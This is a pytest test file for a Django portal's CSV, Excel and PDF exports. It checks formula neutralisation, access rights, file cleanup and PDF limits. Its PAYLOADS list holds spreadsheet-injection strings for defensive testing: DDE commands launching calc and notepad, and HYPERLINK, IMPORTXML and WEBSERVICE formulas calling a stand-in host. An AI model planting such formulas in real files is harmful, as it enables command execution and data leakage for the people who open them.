"""Exports: the files open, hold what the screen shows, and run no stranger's formula."""

import csv
import os
import sys
from datetime import datetime, timedelta
from decimal import Decimal
from itertools import product

import openpyxl
import pypdfium2
import pytest
from django.http import QueryDict
from django.utils import timezone
from pypdf import PdfReader

from portal.core.errors import Refused
from portal.kit import exports, jobs
from portal.kit.exports import csv_file, files, making, pdf_file, xlsx_file
from portal.kit.exports.columns import Column
from portal.kit.exports.sheet import Sheet
from portal.models import File, Job
from tests import make
from tests.kit.hung.exports import Broken, CustomerNames, Days

STARTS = ["=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\n"]
DEEDS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.test/?"&A1,"see")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    'IMPORTXML("http://x.test","//a")',
    "2+5+cmd|' /C notepad'!A0",
    'WEBSERVICE("http://x.test")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    *("A1", "0", "1", "-1", "x", ".5", "@x", "'1", "(1)", "$A$1", "1,2", '"1"', "1;2"),
    *("é", "true", "Sheet1!A1", "10/0"),
]
PAYLOADS = [start + deed for start, deed in product(STARTS, DEEDS)]


@pytest.fixture(autouse=True)
def folder(settings, tmp_path):
    settings.FILES_DIR = tmp_path / "files"
    return settings.FILES_DIR


def sheet_of(texts, *, title="Texts"):
    rows = [(text,) for text in texts]
    return Sheet(
        title=title,
        subtitle="",
        columns=(Column("text", "Text"),),
        rows=iter(rows),
        total=len(rows),
        zone=timezone.get_default_timezone(),
    )


def made(exporter, file_format, *, owner=None, query="", columns=()):
    """The file of an export that ran as a job."""
    owner = owner or make.staff()
    asked = making.ask(exporter(owner, QueryDict(query)), columns=columns, file_format=file_format)
    jobs.run(asked.pk)
    return Job.objects.get(pk=asked.pk)


def lines(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def cells(path, name=None):
    with path.open("rb") as file:
        book = openpyxl.load_workbook(file)
    page = book[name] if name else book.active
    return [[cell.value for cell in row] for row in page.iter_rows()]


def text_of(path):
    document = pypdfium2.PdfDocument(path)
    return [page.get_textpage().get_text_bounded() for page in document]


def test_there_are_300_formulas_to_try():
    assert len(set(PAYLOADS)) == 300


def test_no_csv_cell_begins_like_a_formula_and_every_text_comes_back(tmp_path):
    texts = [*PAYLOADS, *("'" + text for text in PAYLOADS), "'quoted'", "plain", "O'Neill"]

    csv_file.write(tmp_path / "t.csv", sheet_of(texts))

    read = [line[0] for line in lines(tmp_path / "t.csv")[1:]]
    assert not [text for text in read if text[:1] in STARTS]
    plain = [text[1:] if csv_file.FORMULA.match(text) else text for text in read]
    assert plain == texts


def test_every_xlsx_text_stays_text(tmp_path):
    readable = [text for text in PAYLOADS if "\0" not in text]

    xlsx_file.write(tmp_path / "t.xlsx", sheet_of(PAYLOADS))

    page = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    found = [row[0] for row in page.iter_rows(min_row=2)]
    assert {cell.data_type for cell in found} == {"s"}
    assert {cell.value for cell in found} >= {text for text in readable if "\r" not in text}


def test_pdf_shows_formulas_as_they_are_written(tmp_path):
    pdf_file.write(tmp_path / "t.pdf", sheet_of(["=1+1", "<script>", "@SUM(1)"]))

    assert "=1+1" in text_of(tmp_path / "t.pdf")[0]
    assert "<script>" in text_of(tmp_path / "t.pdf")[0]


def test_a_pdf_may_fetch_nothing_not_even_from_its_own_disk(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the key")

    for address in (secret.as_uri(), "http://127.0.0.1:1/", "data:text/plain,x"):
        with pytest.raises(ValueError, match="disallowed protocol"):
            pdf_file.fetcher().fetch(address)


def test_a_pdf_is_tagged_for_screen_readers(tmp_path):
    pdf_file.write(tmp_path / "t.pdf", sheet_of(["one"]))

    root = PdfReader(tmp_path / "t.pdf").root_object
    assert b"pdfuaid" in root["/Metadata"].get_data()
    assert root["/MarkInfo"]["/Marked"]
    assert "/StructTreeRoot" in root
    assert root["/Lang"] == "en-gb"


def test_a_long_pdf_is_made_in_parts_whose_page_numbers_go_on(tmp_path):
    pdf_file.write(tmp_path / "t.pdf", sheet_of([f"row {n}" for n in range(1_100)]))

    pages = text_of(tmp_path / "t.pdf")
    numbers = [page.split()[-1].removeprefix("Texts") for page in pages]
    assert numbers == [str(n + 1) for n in range(len(pages))]
    assert "row 1099" in pages[-1]
    assert sum(page.count("row ") for page in pages) == 1_100


def test_a_pdf_refuses_more_than_10_000_rows(tmp_path):
    with pytest.raises(Refused, match="A PDF holds up to 10,000 rows"):
        pdf_file.write(tmp_path / "t.pdf", sheet_of(["row"] * 10_001))


def test_without_pango_a_pdf_says_what_to_install(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "weasyprint", None)

    with pytest.raises(Refused, match=r"apt-get install libpango-1\.0-0"):
        pdf_file.write(tmp_path / "t.pdf", sheet_of(["one"]))


def test_a_full_sheet_goes_on_in_the_next_one(tmp_path):
    sheet = sheet_of([f"row {n}" for n in range(25)], title="A title: [long] and odd/strange")

    xlsx_file.write(tmp_path / "t.xlsx", sheet, rows_max=11)

    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    assert [page.max_row for page in book] == [11, 11, 6]
    assert [page["A1"].value for page in book] == ["Text"] * 3
    assert book.worksheets[2]["A6"].value == "row 24"


def test_more_rows_than_every_sheet_holds_are_refused_and_not_left_out(tmp_path):
    sheet = sheet_of(["row"] * 30)
    unexpected = Sheet(**{name: getattr(sheet, name) for name in sheet.__slots__} | {"total": 5})

    with pytest.raises(Refused, match="Many rows came in"):
        xlsx_file.write(tmp_path / "t.xlsx", unexpected, rows_max=11)


def test_a_text_longer_than_a_cell_is_cut_and_does_not_break_the_file(tmp_path):
    xlsx_file.write(tmp_path / "t.xlsx", sheet_of(["x" * 40_000, "\N{GRINNING FACE}" * 20_000]))

    found = [row[0] for row in cells(tmp_path / "t.xlsx")[1:]]
    assert found[0] == "x" * 32_767
    assert found[1] == "\N{GRINNING FACE}" * 16_383


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_csv_holds_plain_numbers_and_the_owners_times():
    owner = make.staff(time_zone="Europe/Tallinn")

    job = made(Days, "csv", owner=owner, query="rows=1")

    assert lines(job.file.path) == [
        ["Day", "Note", "Sent", "Cost, EUR", "Efficiency", "Last (Europe/Tallinn)"],
        ["2026-11-20", "'=1+1", "2210", "85.080000", "97.3", "2026-11-20 14:30:15"],
        ["", "Total", "2210", "85.08", "", ""],
    ]


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_xlsx_holds_typed_cells_and_the_owners_times():
    owner = make.staff(time_zone="Europe/Tallinn")

    job = made(Days, "xlsx", owner=owner, query="rows=2")

    found = cells(job.file.path)
    assert found[0][-1] == "Last (Europe/Tallinn)"
    assert found[1] == [
        datetime(2026, 11, 20),  # noqa: DTZ001  (Excel knows no zones)
        "=1+1",
        2210,
        85.08,
        97.3,
        datetime(2026, 11, 20, 14, 30, 15),  # noqa: DTZ001
    ]
    assert found[3] == [None, "Total", 4420, 170.16, None, None]
    assert job.file.rows == 2


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_a_pdf_has_title_period_rows_and_totals():
    job = made(Days, "pdf", query="rows=3")

    (page,) = text_of(job.file.path)
    for part in (
        "Statistics: by day",
        "1-20 Nov 2026",
        "3 rows",
        "20 Nov 2026",
        "255.24",
        "97.3 %",
    ):
        assert part in page


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
@pytest.mark.parametrize("file_format", ["csv", "xlsx", "pdf"])
def test_an_export_of_nothing_is_a_valid_file_with_its_heads(file_format):
    job = made(CustomerNames, file_format, columns=["name"])

    assert (job.status, job.file.rows) == (Job.Status.DONE, 0)
    if file_format == "csv":
        assert lines(job.file.path) == [["Company"]]
    if file_format == "xlsx":
        assert cells(job.file.path) == [["Company"]]
    if file_format == "pdf":
        assert "Company" in text_of(job.file.path)[0]


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_only_the_chosen_columns_are_written_in_their_own_order():
    make.customer("Pellworm Connect")

    job = made(CustomerNames, "csv", columns=["status", "name", "unheard-of"])

    assert lines(job.file.path) == [["Company", "Status"], ["Pellworm Connect", "Active"]]


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_the_file_holds_what_the_filter_shows_and_no_more():
    make.customer("Active One")
    make.customer("Archived One", status="archived")

    job = made(CustomerNames, "csv", query="status=archived", columns=["name"])
    nonsense = made(CustomerNames, "csv", query="status=nonsense", columns=["name"])

    assert lines(job.file.path) == [["Company"], ["Archived One"]]
    assert lines(nonsense.file.path) == [["Company"]]


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_rows_are_those_its_owner_may_see_when_the_file_is_made():
    mine, other = make.customer("Mine"), make.customer("Another's")
    owner = make.staff()
    job = making.ask(CustomerNames(owner, QueryDict("")), columns=["name"], file_format="csv")
    owner.is_superuser = True
    owner.is_staff = False
    owner.save()
    mine.memberships.create(user=owner)

    jobs.run(job.pk)

    job.refresh_from_db()
    assert lines(job.file.path) == [["Company"], ["Mine"]]
    assert other.name not in job.file.path.read_text(encoding="utf-8-sig")


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
@pytest.mark.parametrize("lost", ["closed", "role"])
def test_who_lost_the_right_meanwhile_gets_no_file(lost, folder):
    owner = make.staff("support")
    job = making.ask(CustomerNames(owner, QueryDict("")), columns=[], file_format="csv")
    if lost == "closed":
        type(owner).objects.filter(pk=owner.pk).update(is_active=False)
    else:
        owner.groups.clear()

    jobs.run(job.pk)

    job.refresh_from_db()
    assert (job.status, job.file) == (Job.Status.FAILED, None)
    assert job.error == "You no longer have the right to this export."
    assert not folder.exists()


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
@pytest.mark.parametrize("file_format", ["csv", "xlsx", "pdf"])
def test_what_breaks_leaves_no_file_behind(file_format, folder):
    owner = make.staff()
    job = making.ask(Broken(owner, QueryDict("rows=2")), columns=[], file_format=file_format)

    with pytest.raises(RuntimeError, match="the database went away"):
        jobs.run(job.pk)

    job.refresh_from_db()
    assert (job.status, File.objects.count()) == (Job.Status.FAILED, 0)
    assert list(folder.iterdir()) == []


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_a_job_stopped_at_the_last_moment_leaves_no_file(folder, monkeypatch):
    owner = make.staff()
    job = making.ask(Days(owner, QueryDict("rows=2")), columns=[], file_format="csv")
    monkeypatch.setattr(Days, "totals", lambda self: jobs.stop(job, by=owner))

    jobs.run(job.pk)

    job.refresh_from_db()
    assert (job.status, File.objects.count()) == (Job.Status.STOPPED, 0)
    assert list(folder.iterdir()) == []


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_a_pdf_that_grew_too_long_meanwhile_is_refused(monkeypatch):
    owner = make.staff()
    job = making.ask(Days(owner, QueryDict("rows=3")), columns=[], file_format="pdf")
    Job.objects.filter(pk=job.pk).update(params=job.params | {"query": "rows=10001"})

    jobs.run(job.pk)

    job.refresh_from_db()
    assert job.error == "This kind of file cannot hold so many rows."


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_above_10_000_rows_only_excel_and_csv_are_offered():
    exporter = Days(make.staff(), QueryDict("rows=10001"))

    offered = [one.slug for one in making.offered(exporter, exporter.total())]

    assert offered == ["xlsx", "csv"]
    with pytest.raises(Refused):
        making.ask(exporter, columns=[], file_format="pdf")


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_a_file_is_called_by_its_list_and_its_period_in_letters_every_system_takes():
    job = made(Days, "csv")

    assert job.file.name == "Statistics by day, 1-20 Nov 2026.csv"


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_a_file_is_deleted_after_its_days_and_its_line_stays(folder):
    job = made(Days, "csv", query="rows=1")
    kept = made(Days, "csv", query="rows=1")
    File.objects.filter(pk=job.file_id).update(expires_at=timezone.now() - timedelta(seconds=1))

    deleted = files.delete_expired()

    assert deleted == 1
    assert [path.name for path in folder.iterdir()] == [kept.file.stored_as]
    assert File.objects.filter(pk=job.file_id).exists()


@pytest.mark.django_db
def test_what_no_row_knows_is_deleted_after_a_day(folder):
    folder.mkdir()
    (folder / "torn.part").write_text("left by a killed worker")
    fresh = files.delete_expired()
    make_old(folder / "torn.part")

    assert (fresh, files.delete_expired()) == (0, 1)


@pytest.mark.django_db
def test_files_are_kept_for_seven_days_unless_told_otherwise(settings):
    owner = make.staff()
    week = files.store(owner, name="a", content_type="text/csv", write=write_a_word)
    settings.FILES_KEPT_DAYS = 2
    short = files.store(owner, name="b", content_type="text/csv", write=write_a_word)

    assert (week.expires_at - timezone.now()).days == 6
    assert (short.expires_at - timezone.now()).days == 1
    assert week.size == 4


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_rows_come_by_a_cursor_on_the_databases_side(django_assert_max_num_queries):
    for number in range(30):
        make.customer(f"Customer {number:02}")
    exporter = CustomerNames(make.staff(), QueryDict(""))

    with django_assert_max_num_queries(1):
        names = [row.name for row in exporter.iterate()]

    assert len(names) == exporter.total() == 30


def test_a_column_reads_keys_fields_methods_and_empty_links():
    class Row:
        manager = None
        price = Decimal("1.5")

        def state(self):
            return "open"

    read = [Column(name, name).reader() for name in ("manager.name", "price", "state")]
    double = Column("twice", "Twice", lambda row: row.price * 2).reader()

    assert [one(Row()) for one in read] == [None, Decimal("1.5"), "open"]
    assert double(Row()) == Decimal(3)
    assert Column("price", "Price").reader()({"price": 7}) == 7


def test_a_column_of_an_unknown_kind_is_a_mistake():
    with pytest.raises(ValueError, match="kind"):
        Column("a", "A", kind="colour")


@pytest.mark.django_db
@pytest.mark.usefixtures("hung")
def test_an_unknown_export_is_refused():
    with pytest.raises(Refused):
        exports.find("unheard-of")


def write_a_word(path):
    path.write_text("word")


def make_old(path):
    old = timezone.now().timestamp() - 25 * 3600
    os.utime(path, (old, old))
